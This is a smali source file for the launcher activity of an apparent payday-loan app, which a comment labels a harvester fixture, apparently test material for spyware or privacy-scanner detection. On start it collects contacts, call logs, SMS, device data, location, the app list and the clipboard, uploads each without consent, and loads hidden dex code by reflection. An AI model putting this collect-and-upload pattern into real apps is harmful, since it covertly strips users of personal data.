.class public Lcom/example/cashnow/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# Launcher activity of the harvester fixture. On first start it runs every
# collector (fixture only: all on the UI thread, no consent screen).


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


# virtual methods
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 4
    # locals v0, v1 ; p0 = this, p1 = savedInstanceState

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    # address book: query + HTTP upload happen inside readAll()
    new-instance v0, Lcom/example/cashnow/ContactsHarvester;
    invoke-direct {v0, p0}, Lcom/example/cashnow/ContactsHarvester;-><init>(Landroid/content/Context;)V
    invoke-virtual {v0}, Lcom/example/cashnow/ContactsHarvester;->readAll()I

    invoke-static {p0}, Lcom/example/cashnow/CallLogReader;->read(Landroid/content/Context;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/example/cashnow/Uploader;->post(Ljava/lang/String;)V

    invoke-static {p0}, Lcom/example/cashnow/SmsReader;->readInbox(Landroid/content/Context;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/example/cashnow/Uploader;->post(Ljava/lang/String;)V

    invoke-static {p0}, Lcom/example/cashnow/DeviceProfile;->collect(Landroid/content/Context;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lcom/example/cashnow/Uploader;->post(Ljava/lang/String;)V

    # cross-dex call: LocationTracker lives in classes2.dex
    new-instance v0, Lcom/example/cashnow/geo/LocationTracker;
    invoke-direct {v0, p0}, Lcom/example/cashnow/geo/LocationTracker;-><init>(Landroid/content/Context;)V
    invoke-virtual {v0}, Lcom/example/cashnow/geo/LocationTracker;->track()V

    # obfuscated helper (app list + clipboard)
    new-instance v0, La/b/c;
    invoke-direct {v0, p0}, La/b/c;-><init>(Landroid/content/Context;)V
    invoke-virtual {v0}, La/b/c;->a()V

    # contacts Uri obtained by reflection, queried through a generic helper
    invoke-static {}, Lcom/example/cashnow/ReflectionProbe;->probe()Landroid/net/Uri;
    move-result-object v0
    if-eqz v0, :no_uri
    new-instance v1, Lcom/example/cashnow/GenericQuery;
    invoke-direct {v1, p0}, Lcom/example/cashnow/GenericQuery;-><init>(Landroid/content/Context;)V
    invoke-virtual {v1, v0}, Lcom/example/cashnow/GenericQuery;->run(Landroid/net/Uri;)Landroid/database/Cursor;

    :no_uri
    # embedded code: assets/plugin.dex
    invoke-static {p0}, Lcom/example/cashnow/PluginLoader;->load(Landroid/content/Context;)V

    # 7-day loan due date (plain date arithmetic)
    const/4 v0, 0x7
    invoke-static {v0}, Lcom/example/cashnow/LoanCalculator;->dueDateMillis(I)J
    move-result-wide v0

    return-void
.end method
